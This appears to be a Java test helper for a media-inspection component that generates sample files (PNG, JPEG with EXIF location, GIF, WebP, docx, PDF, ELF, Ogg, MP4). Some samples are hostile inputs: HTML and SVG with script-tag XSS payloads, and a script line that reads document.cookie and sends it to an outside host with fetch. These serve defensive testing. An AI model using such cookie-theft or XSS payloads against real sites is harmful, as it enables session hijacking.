package io.parley.media.inspection;

import java.awt.Color;
import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.zip.CRC32;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import javax.imageio.IIOImage;
import javax.imageio.ImageIO;

/// Files of many types, made here.
final class Samples {
    private static final byte[] PNG_SIGNATURE = {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n'};

    private Samples() {}

    /// The left half red, the upper right quarter green, the lower one blue.
    static BufferedImage picture(int width, int height) {
        var image = new BufferedImage(width, height, BufferedImage.TYPE_INT_RGB);
        var graphics = image.createGraphics();
        graphics.setColor(Color.RED);
        graphics.fillRect(0, 0, width / 2, height);
        graphics.setColor(Color.GREEN);
        graphics.fillRect(width / 2, 0, width, height / 2);
        graphics.setColor(Color.BLUE);
        graphics.fillRect(width / 2, height / 2, width, height);
        graphics.dispose();
        return image;
    }

    static byte[] png(int width, int height) throws IOException {
        return written(picture(width, height), "png");
    }

    static byte[] jpeg(int width, int height) throws IOException {
        return written(picture(width, height), "jpeg");
    }

    private static byte[] written(BufferedImage image, String format) throws IOException {
        var out = new ByteArrayOutputStream();
        ImageIO.write(image, format, out);
        return out.toByteArray();
    }

    static byte[] gif(int width, int height, int frames) throws IOException {
        var writer = ImageIO.getImageWritersByFormatName("gif").next();
        var out = new ByteArrayOutputStream();
        try (var stream = ImageIO.createImageOutputStream(out)) {
            writer.setOutput(stream);
            writer.prepareWriteSequence(null);
            for (var i = 0; i < frames; i++) {
                writer.writeToSequence(new IIOImage(picture(width, height), null, null), null);
            }
            writer.endWriteSequence();
        } finally {
            writer.dispose();
        }
        return out.toByteArray();
    }

    /// One pixel each.
    static byte[] webpLossy() {
        return Base64.getDecoder().decode("UklGRiIAAABXRUJQVlA4IBYAAAAwAQCdASoBAAEADsD+JaQAA3AAAAAA");
    }

    static byte[] webpLossless() {
        return Base64.getDecoder().decode("UklGRhoAAABXRUJQVlA4TA0AAAAvAAAAEAcQERGIiP4HAA==");
    }

    /// A JPEG that says how the camera was held, and where: at 48° 51' north.
    static byte[] jpegOfCamera(int width, int height, int orientation) throws IOException {
        var exif = ByteBuffer.allocate(200);
        exif.put("Exif\0\0".getBytes(StandardCharsets.US_ASCII));
        exif.put("MM\0*".getBytes(StandardCharsets.US_ASCII)).putInt(8);
        exif.putShort((short) 2);
        exif.putShort((short) 0x0112)
                .putShort((short) 3)
                .putInt(1)
                .putShort((short) orientation)
                .putShort((short) 0);
        exif.putShort((short) 0x8825).putShort((short) 4).putInt(1).putInt(38);
        exif.putInt(0);
        exif.putShort((short) 2);
        exif.putShort((short) 1).putShort((short) 2).putInt(2).put((byte) 'N').put(new byte[3]);
        exif.putShort((short) 2).putShort((short) 5).putInt(3).putInt(68);
        exif.putInt(0);
        for (var part : new int[] {48, 1, 51, 1, 0, 1}) {
            exif.putInt(part);
        }
        var jpeg = jpeg(width, height);
        var whole = ByteBuffer.allocate(jpeg.length + 4 + exif.position());
        whole.put(jpeg, 0, 2);
        whole.putShort((short) 0xffe1).putShort((short) (exif.position() + 2)).put(exif.flip());
        whole.put(jpeg, 2, jpeg.length - 2);
        return whole.array();
    }

    /// A PNG that says to be of this size, and has no pixels.
    static byte[] pngOfSize(int width, int height) {
        var header = ByteBuffer.allocate(17);
        header.put("IHDR".getBytes(StandardCharsets.US_ASCII));
        header.putInt(width).putInt(height).put(new byte[] {8, 2, 0, 0, 0});
        var sum = new CRC32();
        sum.update(header.array());
        var png = ByteBuffer.allocate(PNG_SIGNATURE.length + 4 + 17 + 4);
        png.put(PNG_SIGNATURE).putInt(13).put(header.array()).putInt((int) sum.getValue());
        return png.array();
    }

    static byte[] zip(Map<String, byte[]> entries) throws IOException {
        var out = new ByteArrayOutputStream();
        try (var zip = new ZipOutputStream(out)) {
            for (var entry : entries.entrySet()) {
                zip.putNextEntry(new ZipEntry(entry.getKey()));
                zip.write(entry.getValue());
                zip.closeEntry();
            }
        }
        return out.toByteArray();
    }

    static byte[] docx(String... more) throws IOException {
        var entries = new LinkedHashMap<String, byte[]>();
        entries.put("[Content_Types].xml", bytes("<Types/>"));
        entries.put("word/document.xml", bytes("<document/>"));
        for (var name : more) {
            entries.put(name, bytes("more"));
        }
        return zip(entries);
    }

    static byte[] pdf() {
        return bytes("%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n");
    }

    static byte[] elf() {
        var elf = new byte[256];
        System.arraycopy(new byte[] {0x7f, 'E', 'L', 'F', 2, 1, 1}, 0, elf, 0, 7);
        elf[16] = 2;
        elf[18] = 0x3e;
        return elf;
    }

    static byte[] html() {
        return bytes("<!DOCTYPE html><html><body><script>alert(1)</script></body></html>");
    }

    static byte[] script() {
        return bytes("var stolen = document.cookie; fetch('https://example.org/' + stolen);");
    }

    static byte[] svg() {
        return bytes("""
                <?xml version="1.0"?>
                <svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>""");
    }

    /// The beginning of an Ogg file with Opus in it.
    static byte[] ogg() {
        var page = new byte[128];
        System.arraycopy(bytes("OggS"), 0, page, 0, 4);
        page[5] = 2;
        page[26] = 1;
        page[27] = 19;
        System.arraycopy(bytes("OpusHead"), 0, page, 28, 8);
        return page;
    }

    /// The beginning of an MP4 file.
    static byte[] mp4() {
        var box = ByteBuffer.allocate(64);
        box.putInt(24).put(bytes("ftypisom")).putInt(512).put(bytes("isommp42"));
        box.putInt(40).put(bytes("mdat"));
        return box.array();
    }

    static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    static byte[] joined(byte[] first, byte[] second) {
        return ByteBuffer.allocate(first.length + second.length)
                .put(first)
                .put(second)
                .array();
    }
}
